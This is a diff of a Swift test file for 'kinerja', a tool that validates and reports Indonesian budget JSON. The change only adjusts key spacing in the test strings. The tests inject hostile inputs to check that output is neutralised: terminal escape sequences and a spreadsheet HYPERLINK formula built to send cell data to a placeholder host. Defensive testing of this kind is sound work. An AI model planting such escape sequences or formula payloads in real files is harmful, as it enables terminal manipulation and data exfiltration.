@@ -65,8 +65,8 @@ import Glibc
     @Test func unknownKeysFailCheckAndTheSchema() throws {
         let text = try String(contentsOfFile: data, encoding: .utf8)
         let slip = folder.appendingPathComponent("salah.json").path
-        let first = try #require(text.range(of: "\"realisasi\" : 8"))
-        try text.replacingCharacters(in: first, with: "\"realisai\" : 8").write(toFile: slip, atomically: true, encoding: .utf8)
+        let first = try #require(text.range(of: "\"realisasi\": 8"))
+        try text.replacingCharacters(in: first, with: "\"realisai\": 8").write(toFile: slip, atomically: true, encoding: .utf8)
         let r = try Proses.jalankan(["check", slip])
         #expect(r.keluar == 1)
         #expect(r.stderr == "kinerja: \(slip): program[0].kegiatan[1].tertulis.realisai (baris 372, kolom 13): kolom 'realisai' tidak dikenal; maksud Anda 'realisasi'? kolom yang dikenal di sini: pagu, realisasi. Perbaiki atau hapus kolom itu: kinerja tidak menyimpan yang tidak dikenalnya\n")
@@ -118,9 +118,9 @@ import Glibc
     // 12, 13. Hostile names: nothing raw reaches a terminal; CSV cells are not formulas.
     @Test func hostileNamesReachNoTerminalRawAndNoSpreadsheetAsFormulas() throws {
         var text = try String(contentsOfFile: data, encoding: .utf8)
-        text = text.replacingOccurrences(of: "\"nama\" : \"Penyediaan Tempat Penampungan Pengungsi\"",
-                                         with: "\"nama\" : \"Penyediaan\\u001b]0;pwned\\u0007\\u001b[2J\\u009b6n\\u202ekiri\"")
-        text = text.replacingOccurrences(of: "\"nama\" : \"Penanganan Bencana\"", with: "\"nama\" : \"=HYPERLINK(\\\"http://x/?\\\"&A1,\\\"klik\\\")\"")
+        text = text.replacingOccurrences(of: "\"nama\": \"Penyediaan Tempat Penampungan Pengungsi\"",
+                                         with: "\"nama\": \"Penyediaan\\u001b]0;pwned\\u0007\\u001b[2J\\u009b6n\\u202ekiri\"")
+        text = text.replacingOccurrences(of: "\"nama\": \"Penanganan Bencana\"", with: "\"nama\": \"=HYPERLINK(\\\"http://x/?\\\"&A1,\\\"klik\\\")\"")
         try text.write(toFile: data, atomically: true, encoding: .utf8)
         let runs = [["show", data, "1.06.06.2.01.03"], ["report", data, "anggaran"], ["report", data, "anggaran", "--format", "md"],
                     ["report", data, "triwulan"], ["check", data]]
@@ -133,7 +133,7 @@ import Glibc
         }
         #expect(try Proses.jalankan(["show", data, "1.06.06.2.01.03"]).stdout.contains("Penyediaan?]0;pwned??[2J?6n?kiri"))
         // An error message quoting a name (a duplicate code) is neutralised too.
-        let dup = text.replacingOccurrences(of: "\"kode\" : \"1.06.06.2.01.02\"", with: "\"kode\" : \"1.06.06.2.01.03\"")
+        let dup = text.replacingOccurrences(of: "\"kode\": \"1.06.06.2.01.02\"", with: "\"kode\": \"1.06.06.2.01.03\"")
         try dup.write(toFile: data, atomically: true, encoding: .utf8)
         let e = try Proses.jalankan(["check", data])
         #expect(e.keluar == 1)
